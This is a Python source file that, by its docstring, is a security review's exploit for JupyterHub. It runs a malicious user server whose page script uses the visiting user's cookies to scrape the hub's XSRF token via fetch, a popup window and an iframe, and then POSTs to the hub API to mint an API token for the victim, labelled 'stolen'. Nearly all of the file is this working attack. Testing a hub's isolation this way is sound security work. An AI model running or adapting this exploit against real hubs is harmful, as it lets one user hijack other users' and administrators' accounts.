"""A user's server that attacks whoever opens it (the security review's exploit).

Started as a hub's spawner command (it listens where JUPYTERHUB_SERVICE_URL says). Any
GET answers a page whose script, run with the visitor's cookies, tries what a server
of a user could do to the hub on the visitor's behalf: read a hub page (and its XSRF
token) with fetch(), mint an API token for the visitor, read a hub page opened with
window.open() or in a frame. It writes what it got into #result as JSON, and sets the
title to "done". `?hub=<origin>` names the hub's origin (per-user origins);
`?victim=<name>` the visitor whose token it asks for.
"""

from __future__ import annotations

import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

PAGE = b"""<!doctype html>
<html><head><title>evil</title></head><body><pre id="result"></pre><script>
const params = new URLSearchParams(location.search);
const hub = params.get("hub") || "";
const victim = params.get("victim") || "admin";
const out = {};
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const tokenIn = (html) => {
  const m = /name="xsrf-token" content="([^"]+)"/.exec(html || "");
  return m ? m[1] : null;
};
async function readFetched() {
  try {
    const r = await fetch(hub + "/hub/home", { credentials: "include" });
    out.fetch_url = r.url;
    const text = await r.text();
    out.fetch_xsrf = tokenIn(text);
    out.fetch_is_login = text.includes('name="username"');
  } catch (e) {
    out.fetch_error = String(e);
  }
}
async function mint(xsrf) {
  try {
    const r = await fetch(hub + "/hub/api/users/" + victim + "/tokens", {
      method: "POST", credentials: "include",
      headers: { "Content-Type": "application/json", "X-XSRFToken": xsrf || "" },
      body: JSON.stringify({ note: "stolen" }),
    });
    out.mint_status = r.status;
    out.mint_body = await r.text();
  } catch (e) {
    out.mint_error = String(e);
  }
}
async function readWindow(win, key) {
  for (let i = 0; i < 50; i++) {
    await sleep(100);
    try {
      const doc = win.document;
      if (doc && doc.readyState === "complete" && doc.location.pathname.startsWith("/hub/")) {
        out[key + "_xsrf"] = tokenIn(doc.documentElement.outerHTML);
        return;
      }
    } catch (e) {
      out[key + "_error"] = String(e);
      return;
    }
  }
  out[key + "_error"] = "never readable (closed: " + win.closed + ")";
}
async function main() {
  await readFetched();
  await mint(out.fetch_xsrf);
  const popup = window.open(hub + "/hub/home", "hubpopup");
  out.popup_opened = popup !== null;
  if (popup) await readWindow(popup, "popup");
  const frame = document.createElement("iframe");
  frame.src = hub + "/hub/home";
  document.body.appendChild(frame);
  await sleep(500);
  await readWindow(frame.contentWindow, "frame");
  const stolen = out.popup_xsrf || out.frame_xsrf;
  if (stolen) await mint(stolen);
  document.getElementById("result").textContent = JSON.stringify(out);
  document.title = "done";
}
main();
</script></body></html>
"""


class Handler(BaseHTTPRequestHandler):
    """The page for any GET (the hub's readiness check included)."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)

    def log_message(self, format: str, *args: object) -> None:
        """Silent."""


def main() -> None:
    url = urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"])
    ThreadingHTTPServer((url.hostname or "127.0.0.1", url.port or 8888), Handler).serve_forever()


if __name__ == "__main__":
    main()
